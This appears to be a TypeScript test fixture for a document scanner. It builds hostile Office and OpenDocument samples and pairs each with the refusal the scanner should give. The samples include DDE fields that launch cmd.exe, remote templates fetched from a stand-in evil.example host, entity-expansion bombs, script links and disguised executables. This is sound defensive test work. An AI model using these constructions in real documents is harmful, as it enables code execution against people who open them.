import type { ContentRefusal } from '#contract/content-refusals.ts'
import { linuxProgram, pdf, png, windowsProgram } from '#tests/support/file-bytes.ts'
import {
  atom,
  compoundOf,
  container,
  excelNodes,
  folder,
  powerPointNodes,
  project,
  record,
  sheet,
  stream,
  wordNodes,
  workbook,
} from './compound-files.ts'
import { odf, officeFile, openXml, type Relation, word, xml } from './office-files.ts'
import { type Part, packZip } from './zip-files.ts'

export type Hostile = [what: string, bytes: () => Buffer, found: ContentRefusal]

const macros = compoundOf([project])
const object = compoundOf([stream('\x01Ole10Native', 'n'.repeat(100)), stream('\x01CompObj', 'c')])
const microsoft = 'http://schemas.microsoft.com/office/2006/relationships'
const bytes = (text: string) => [...Buffer.from(text, 'latin1')]
const otherBook = (name: string) => record(0x01ae, [1, 0, name.length, 0, 0, ...bytes(name)])

/** Old documents: what is in the folders and records of compound files. */
export const oldDocuments: Hostile[] = [
  ['doc with a project of macros', () => compoundOf([...wordNodes(), project]), 'file_macros'],
  [
    'doc whose project has lower case names',
    () => compoundOf([...wordNodes(), folder('macros', [folder('vba', [stream('dir')])])]),
    'file_macros',
  ],
  [
    'doc with a module outside its folder',
    () => compoundOf([...wordNodes(), stream('_VBA_PROJECT', 'v')]),
    'file_macros',
  ],
  [
    'doc that is an old template',
    () => compoundOf(wordNodes('x', { version: 101, flags: 0x0001 })),
    'file_macros',
  ],
  ['doc with a password', () => compoundOf(wordNodes('x', { flags: 0x1300 })), 'file_encrypted'],
  [
    'doc with a field that starts a program',
    () => compoundOf(wordNodes('\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \x14\x15')),
    'file_linked',
  ],
  [
    'doc with such a field in 16 bits',
    () => compoundOf(wordNodes(Buffer.from('\x13DDE cmd "x" \x15', 'utf16le').toString('latin1'))),
    'file_linked',
  ],
  [
    'doc with such a field far into it',
    () => compoundOf(wordNodes(`${'x'.repeat(70_000)}\x13 DDE cmd \x15`)),
    'file_linked',
  ],
  [
    'doc with an object',
    () =>
      compoundOf([...wordNodes(), folder('ObjectPool', [folder('_1234', [stream('\x01Ole10Native', 'n')])])]),
    'file_embedded',
  ],
  [
    'doc with a folder of an object',
    () => compoundOf([...wordNodes(), folder('ObjectPool', [folder('_1234', [stream('\x03ObjInfo', 'n')])])]),
    'file_embedded',
  ],
  [
    'doc with a document inside',
    () => compoundOf([...wordNodes(), folder('X', [stream('\x01CompObj', 'n')])]),
    'file_embedded',
  ],
  [
    'doc that is a workbook too',
    () => compoundOf([...wordNodes(), stream('Workbook', workbook())]),
    'file_deceptive',
  ],
  ['doc cut off', () => compoundOf(wordNodes()).subarray(0, 3000), 'file_deceptive'],
  ['doc whose directory is circular', () => circular(compoundOf(wordNodes())), 'file_deceptive'],
  ['installer', () => compoundOf([stream('_SummaryInformation', 'x')]), 'file_unsupported'],
  [
    'document with a password',
    () => compoundOf([stream('EncryptionInfo', 'x'), stream('EncryptedPackage', 'y'.repeat(5000))]),
    'file_encrypted',
  ],
  [
    'xls with a project of macros',
    () => compoundOf([...excelNodes(), folder('_VBA_PROJECT_CUR', [folder('VBA', [stream('dir')])])]),
    'file_macros',
  ],
  ['xls that says it has a project', () => compoundOf(excelNodes(workbook([record(0x00d3)]))), 'file_macros'],
  ['xls with a sheet of macros', () => compoundOf(excelNodes(workbook([], 0x10, [sheet(1)]))), 'file_macros'],
  [
    'xls with a very hidden sheet of macros',
    () => compoundOf(excelNodes(workbook([], 0x10, [sheet(0), sheet(1, 2)]))),
    'file_macros',
  ],
  [
    'xls whose sheet is one of macros without saying so',
    () => compoundOf(excelNodes(workbook([], 0x40))),
    'file_macros',
  ],
  ['xls with a module', () => compoundOf(excelNodes(workbook([], 0x10, [sheet(6)]))), 'file_macros'],
  [
    'xls 5 with a sheet of macros',
    () => compoundOf(excelNodes(workbook([], 0x10, [sheet(1)], 0x0500), 'Book')),
    'file_macros',
  ],
  [
    'xls with a sheet of macros in a small stream',
    () => compoundOf(excelNodes(Buffer.concat([record(0x0809, [0, 6, 5, 0]), sheet(1), record(0x000a)]))),
    'file_macros',
  ],
  [
    'xls with a sheet of macros behind 100 kB',
    () =>
      compoundOf(
        excelNodes(
          workbook([], 0x10, [...Array<Buffer>(20).fill(record(0x00fc, Buffer.alloc(5000))), sheet(1)]),
        ),
      ),
    'file_macros',
  ],
  [
    'xls with a password',
    () => compoundOf(excelNodes(workbook([record(0x002f, Buffer.alloc(54))]))),
    'file_encrypted',
  ],
  [
    'xls that starts a program',
    () => compoundOf(excelNodes(workbook([otherBook('cmd\x03/c calc')]))),
    'file_linked',
  ],
  [
    'xls 5 that starts a program',
    () =>
      compoundOf(
        excelNodes(
          workbook([record(0x0017, [12, ...bytes('cmd\x03/c calc')])], 0x10, [sheet(0)], 0x0500),
          'Book',
        ),
      ),
    'file_linked',
  ],
  [
    'xls with an object',
    () => compoundOf([...excelNodes(), folder('MBD0018AF3C', [stream('\x01Ole', 'x')])]),
    'file_embedded',
  ],
  ['xls with controls', () => compoundOf([...excelNodes(), stream('Ctls', 'x'.repeat(50))]), 'file_embedded'],
  [
    'ppt with a project of macros',
    () =>
      compoundOf(powerPointNodes([container(0x07d0, [container(0x03ff, [atom(0x0400, Buffer.alloc(12))])])])),
    'file_macros',
  ],
  [
    'ppt with an object',
    () => compoundOf(powerPointNodes([atom(0x1011, Buffer.alloc(100))])),
    'file_embedded',
  ],
  ['ppt with a control', () => compoundOf(powerPointNodes([container(0x0fee, [])])), 'file_embedded'],
  [
    'ppt with a shape that runs a macro',
    () =>
      compoundOf(
        powerPointNodes([
          container(0x0ff2, [atom(0x0ff3, [0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0])]),
        ]),
      ),
    'file_macros',
  ],
  [
    'ppt with a shape that runs a program',
    () =>
      compoundOf(
        powerPointNodes([
          container(0x0ff2, [atom(0x0ff3, [0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0])]),
        ]),
      ),
    'file_scripts',
  ],
  ['ppt with a password', () => compoundOf(powerPointNodes([], 0xf3d1c4df)), 'file_encrypted'],
]

/** Lets the chain of the first sector of the directory end where it begins. The table lies at the end. */
function circular(file: Buffer): Buffer {
  const copy = Buffer.from(file)
  const directory = copy.readUInt32LE(48)
  const table = (copy.readUInt32LE(76) + 1) * 512
  copy.writeUInt32LE(directory, table + directory * 4)
  return copy
}

const withRelation = (family: 'docx' | 'xlsx' | 'pptx', relation: Relation, parts: Part[] = []) =>
  officeFile(family, { relations: [relation], parts })
const body = (inner: string) => `${xml}<w:document ${word}><w:body>${inner}</w:body></w:document>`
const field = (...instructions: string[]) =>
  body(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  )
const entity =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>'
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

/** Documents of Office since 2007. */
export const newDocuments: Hostile[] = [
  [
    'docx with macros',
    () => officeFile('docx', { parts: [{ name: 'word/vbaProject.bin', data: macros }] }),
    'file_macros',
  ],
  [
    'docx with macros under another name',
    () =>
      officeFile('docx', {
        defaults: { bin: 'application/vnd.ms-office.vbaProject' },
        parts: [{ name: 'word/settings.bin', data: macros }],
      }),
    'file_macros',
  ],
  [
    'docx with macros that are called a picture',
    () =>
      officeFile('docx', {
        defaults: { png: 'image/png' },
        parts: [{ name: 'word/media/image1.png', data: macros }],
      }),
    'file_macros',
  ],
  [
    'docx with a reference to macros',
    () => withRelation('docx', { type: `${microsoft}/vbaProject`, target: 'x.bin' }),
    'file_macros',
  ],
  [
    'docx whose kind has macros',
    () => officeFile('docx', { mainKind: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'file_macros',
  ],
  [
    'xlsx whose kind has macros in disguise',
    () => officeFile('xlsx', { mainKind: 'application/vnd.ms-excel.sheet.&#109;acroEnabled.main+xml' }),
    'file_macros',
  ],
  [
    'docx with data of macros',
    () =>
      officeFile('docx', { parts: [{ name: 'word/x.xml', data: `${xml}<wne:vbaSuppData xmlns:wne="x"/>` }] }),
    'file_macros',
  ],
  [
    'docx with keys for macros',
    () => withRelation('docx', { type: `${microsoft}/keyMapCustomizations`, target: 'customizations.xml' }),
    'file_macros',
  ],
  [
    'docx with an object',
    () => officeFile('docx', { parts: [{ name: 'word/embeddings/oleObject1.bin', data: object }] }),
    'file_embedded',
  ],
  [
    'docx with an object that is called a font',
    () =>
      officeFile('docx', {
        defaults: { odttf: `${openXml}.obfuscatedFont` },
        parts: [{ name: 'word/fonts/font1.odttf', data: object }],
      }),
    'file_embedded',
  ],
  [
    'docx with a reference to an object',
    () => withRelation('docx', { type: 'oleObject', target: 'embeddings/x.bin' }),
    'file_embedded',
  ],
  [
    'docx that shows an object',
    () =>
      officeFile('docx', { main: body('<w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>') }),
    'file_embedded',
  ],
  [
    'docx with a Windows program',
    () => officeFile('docx', { parts: [{ name: 'word/media/evil.exe', data: windowsProgram }] }),
    'file_embedded',
  ],
  [
    'docx with a program that is called a picture',
    () =>
      officeFile('docx', {
        defaults: { png: 'image/png' },
        parts: [{ name: 'word/media/image1.png', data: windowsProgram }],
      }),
    'file_embedded',
  ],
  [
    'docx with a Linux program',
    () =>
      officeFile('docx', {
        defaults: { bin: 'image/x-emf' },
        parts: [{ name: 'word/media/a.bin', data: linuxProgram }],
      }),
    'file_embedded',
  ],
  [
    'docx with a page',
    () => officeFile('docx', { parts: [{ name: 'word/evil.html', data: '<html><body>hei</body></html>' }] }),
    'file_embedded',
  ],
  [
    'docx with a page that is well-formed XML',
    () =>
      officeFile('docx', {
        parts: [{ name: 'word/x.xml', data: `${xml}<html xmlns="http://www.w3.org/1999/xhtml"/>` }],
      }),
    'file_embedded',
  ],
  [
    'docx with a batch file that is called a picture',
    () =>
      officeFile('docx', {
        defaults: { bat: 'image/png' },
        parts: [{ name: 'word/media/a.bat', data: '@echo off\r\nstart calc\r\n' }],
      }),
    'file_embedded',
  ],
  [
    'docx with a PDF',
    () =>
      officeFile('docx', {
        defaults: { pdf: 'application/pdf' },
        parts: [{ name: 'word/embeddings/a.pdf', data: pdf }],
      }),
    'file_embedded',
  ],
  [
    'docx with an RTF as part of its text',
    () => withRelation('docx', { type: 'aFChunk', target: 'afchunk.rtf' }),
    'file_embedded',
  ],
  [
    'docx with a foreign part of its text',
    () => officeFile('docx', { main: body('<w:altChunk r:id="rId5"/>') }),
    'file_embedded',
  ],
  [
    'docx with a ZIP',
    () =>
      officeFile('docx', {
        defaults: { zip: 'image/png' },
        parts: [{ name: 'word/media/a.zip', data: packZip([{ name: 'a.txt', data: 'x' }]) }],
      }),
    'file_embedded',
  ],
  [
    'docx with a control',
    () =>
      officeFile('docx', {
        parts: [{ name: 'word/activeX/activeX1.xml', data: `${xml}<ax:ocx xmlns:ax="x" ax:classid="{1}"/>` }],
      }),
    'file_embedded',
  ],
  [
    'xlsx with a reference to a control',
    () => withRelation('xlsx', { type: 'control', target: 'activeX1.xml' }),
    'file_embedded',
  ],
  ['docx with an entity', () => officeFile('docx', { main: entity }), 'file_deceptive'],
  [
    'docx with an entity in 16 bits',
    () => officeFile('docx', { parts: [{ name: 'word/styles.xml', data: wide(entity) }] }),
    'file_deceptive',
  ],
  [
    'docx with a document type',
    () =>
      officeFile('docx', {
        parts: [{ name: 'docProps/app.xml', data: '<!doctype x SYSTEM "http://evil.example/x.dtd"><x/>' }],
      }),
    'file_deceptive',
  ],
  [
    'docx with an entity in its list of parts',
    () =>
      packZip([
        { name: '[Content_Types].xml', data: entity },
        { name: 'word/document.xml', data: body('') },
      ]),
    'file_deceptive',
  ],
  [
    'docx in an encoding that hides its text',
    () => officeFile('docx', { main: '<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-' }),
    'file_deceptive',
  ],
  [
    'docx with an entity in its references',
    () => officeFile('docx', { parts: [{ name: 'word/_rels/x.xml.rels', data: entity }] }),
    'file_deceptive',
  ],
  [
    'docx with a template from the web',
    () =>
      withRelation('docx', {
        type: 'attachedTemplate',
        target: 'https://evil.example/a.dotm',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a template in disguise',
    () =>
      withRelation('docx', {
        type: 'attachedTemplate',
        target: '&#104;ttps://evil.example/a.dotm',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a template of another machine',
    () =>
      withRelation('docx', {
        type: 'attachedTemplate',
        target: 'file:///\\\\evil.example\\share\\a.dotm',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a linked object of the web',
    () =>
      withRelation('docx', {
        type: 'oleObject',
        target: 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a frame of the web',
    () => withRelation('docx', { type: 'frame', target: 'https://evil.example/a.html', elsewhere: true }),
    'file_linked',
  ],
  [
    'docx with a picture of another machine',
    () => withRelation('docx', { type: 'image', target: '\\\\evil.example\\a.png', elsewhere: true }),
    'file_linked',
  ],
  [
    'docx with a document of the web',
    () =>
      withRelation('docx', { type: 'subDocument', target: 'https://evil.example/a.docx', elsewhere: true }),
    'file_linked',
  ],
  [
    'docx with a field that starts a program',
    () => officeFile('docx', { main: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') }),
    'file_linked',
  ],
  [
    'docx with such a field in parts',
    () => officeFile('docx', { main: field(' DD', 'E', ' cmd "/k calc"') }),
    'file_linked',
  ],
  [
    'docx with such a field in one tag',
    () => officeFile('docx', { main: body('<w:fldSimple w:instr=" DDE cmd &quot;x&quot; "/>') }),
    'file_linked',
  ],
  [
    'docx with such a field in its footer',
    () => officeFile('docx', { parts: [{ name: 'word/footer1.xml', data: field('DDE cmd x') }] }),
    'file_linked',
  ],
  [
    'docx with a text of the web',
    () => officeFile('docx', { main: field(' INCLUDETEXT "https://evil.example/a.docx"') }),
    'file_linked',
  ],
  [
    'docx with a link that is a script',
    () => withRelation('docx', { type: 'hyperlink', target: 'javascript:alert(1)', elsewhere: true }),
    'file_scripts',
  ],
  [
    'docx with an add-in',
    () =>
      withRelation('docx', {
        type: 'http://schemas.microsoft.com/office/2011/relationships/webextension',
        target: 'webextension1.xml',
      }),
    'file_scripts',
  ],
  [
    'docx with a scripted drawing',
    () =>
      officeFile('docx', {
        defaults: { svg: 'image/svg+xml' },
        parts: [
          {
            name: 'word/media/a.svg',
            data: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
          },
        ],
      }),
    'file_scripts',
  ],
  [
    'docx with a drawing that acts when it loads',
    () =>
      officeFile('docx', {
        defaults: { svg: 'image/svg+xml' },
        parts: [
          { name: 'word/media/a.svg', data: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' },
        ],
      }),
    'file_scripts',
  ],
  [
    'xlsx with a sheet of macros',
    () =>
      officeFile('xlsx', {
        parts: [{ name: 'xl/macrosheets/sheet1.xml', data: `${xml}<xm:macrosheet xmlns:xm="x"/>` }],
      }),
    'file_macros',
  ],
  [
    'xlsx with a reference to a sheet of macros',
    () => withRelation('xlsx', { type: `${microsoft}/xlMacrosheet`, target: 'worksheets/sheet2.xml' }),
    'file_macros',
  ],
  [
    'xlsx that declares a sheet of macros',
    () =>
      officeFile('xlsx', {
        overrides: { '/xl/worksheets/sheet9.xml': 'application/vnd.ms-excel.intlmacrosheet+xml' },
      }),
    'file_macros',
  ],
  [
    'xlsx with a name that runs at the start',
    () =>
      officeFile('xlsx', {
        main: '<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>',
      }),
    'file_macros',
  ],
  [
    'xlsx with a dialog sheet',
    () =>
      officeFile('xlsx', { parts: [{ name: 'xl/dialogsheets/sheet1.xml', data: `${xml}<dialogsheet/>` }] }),
    'file_macros',
  ],
  [
    'xlsx that starts a program',
    () =>
      officeFile('xlsx', {
        parts: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            data: `${xml}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
          },
        ],
      }),
    'file_linked',
  ],
  [
    'xlsx that loads data when it is opened',
    () =>
      officeFile('xlsx', {
        parts: [
          {
            name: 'xl/connections.xml',
            data: `${xml}<connections><connection id="1" name="x" type="4" refreshOnLoad="1"/></connections>`,
          },
        ],
      }),
    'file_linked',
  ],
  [
    'xlsx with a program behind much data',
    () =>
      officeFile('xlsx', {
        parts: [
          {
            name: 'xl/worksheets/sheet1.xml',
            data: `${xml}<worksheet>${'<c><v>1</v></c>'.repeat(30_000)}<x:ddeLink/></worksheet>`,
          },
        ],
      }),
    'file_linked',
  ],
  [
    'pptx with a shape that runs a macro',
    () =>
      officeFile('pptx', {
        parts: [
          {
            name: 'ppt/slides/slide1.xml',
            data: `${xml}<p:sld><a:hlinkClick action="ppaction://macro?name=x"/></p:sld>`,
          },
        ],
      }),
    'file_macros',
  ],
  [
    'pptx with a shape that runs a program',
    () =>
      officeFile('pptx', {
        parts: [
          {
            name: 'ppt/slides/slide1.xml',
            data: `${xml}<p:sld><a:hlinkMouseOver action="ppaction://program"/></p:sld>`,
          },
        ],
      }),
    'file_scripts',
  ],
  [
    'pptx whose chart has a workbook with macros',
    () =>
      officeFile('pptx', {
        defaults: { xlsx: `${openXml}.spreadsheetml.sheet` },
        parts: [
          {
            name: 'ppt/embeddings/a.xlsx',
            data: officeFile('xlsx', { parts: [{ name: 'xl/vbaProject.bin', data: macros }] }),
          },
        ],
      }),
    'file_macros',
  ],
  [
    'pptx with an object',
    () =>
      officeFile('pptx', {
        parts: [{ name: 'ppt/slides/slide1.xml', data: `${xml}<p:sld><p:oleObj progId="Package"/></p:sld>` }],
      }),
    'file_embedded',
  ],
  [
    'package of an unknown kind',
    () =>
      packZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'other/thing.xml', data: '<x/>' },
      ]),
    'file_unsupported',
  ],
]

const link = (element: string) =>
  `<office:text><${element} xlink:href="https://evil.example/a"/></office:text>`

export const openDocuments: Hostile[] = [
  [
    'odt with a Python script',
    () => odf('text', '<office:text/>', [{ name: 'Scripts/python/evil.py', data: 'import os' }]),
    'file_macros',
  ],
  [
    'ods with macros',
    () =>
      odf('spreadsheet', '<office:spreadsheet/>', [
        { name: 'Basic/Standard/Module1.xml', data: '<script:module/>' },
      ]),
    'file_macros',
  ],
  [
    'odt with dialogs',
    () => odf('text', '<office:text/>', [{ name: 'Dialogs/Standard/dialog-lb.xml', data: '<x/>' }]),
    'file_macros',
  ],
  [
    'odt that listens to events',
    () =>
      odf(
        'text',
        '<office:text/>',
        [],
        '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners></office:scripts>',
      ),
    'file_macros',
  ],
  [
    'odt with a script in its text',
    () =>
      odf(
        'text',
        '<office:text/>',
        [],
        '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
      ),
    'file_macros',
  ],
  [
    'odt with a link that runs a macro',
    () =>
      odf('text', '<office:text><text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/></office:text>'),
    'file_macros',
  ],
  [
    'odp with a shape that runs a macro',
    () => odf('presentation', '<office:presentation presentation:action="execute-macro"/>'),
    'file_macros',
  ],
  [
    'odt with an object of another program',
    () => odf('text', '<office:text/>', [{ name: 'Object 1', data: object }]),
    'file_embedded',
  ],
  ['odt with a plug-in', () => odf('text', '<office:text><draw:plugin/></office:text>'), 'file_embedded'],
  [
    'odt with a program',
    () => odf('text', '<office:text/>', [{ name: 'Pictures/a.png', data: windowsProgram }]),
    'file_embedded',
  ],
  [
    'odt with a file that it does not need',
    () => odf('text', '<office:text/>', [{ name: 'evil.bin', data: png() }]),
    'file_embedded',
  ],
  ['odt with a frame of the web', () => odf('text', link('draw:floating-frame')), 'file_linked'],
  ['odt with a section of the web', () => odf('text', link('text:section-source')), 'file_linked'],
  [
    'ods that starts a program',
    () =>
      odf(
        'spreadsheet',
        '<office:spreadsheet><table:dde-links><table:dde-link/></table:dde-links></office:spreadsheet>',
      ),
    'file_linked',
  ],
  [
    'ods with a formula that starts a program',
    () =>
      odf(
        'spreadsheet',
        '<office:spreadsheet><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></office:spreadsheet>',
      ),
    'file_linked',
  ],
  ['ods with a table of the web', () => odf('spreadsheet', link('table:table-source')), 'file_linked'],
  [
    'odt with an entity',
    () => odf('text', '<office:text/>', [{ name: 'meta.xml', data: entity }]),
    'file_deceptive',
  ],
  [
    'odt with a password',
    () =>
      odf('text', '<office:text/>', [
        { name: 'META-INF/x.xml', data: '<manifest:encryption-data manifest:checksum="x"/>' },
      ]),
    'file_encrypted',
  ],
  [
    'database',
    () =>
      packZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.base', stored: true },
        { name: 'content.xml', data: '<x/>' },
      ]),
    'file_unsupported',
  ],
]
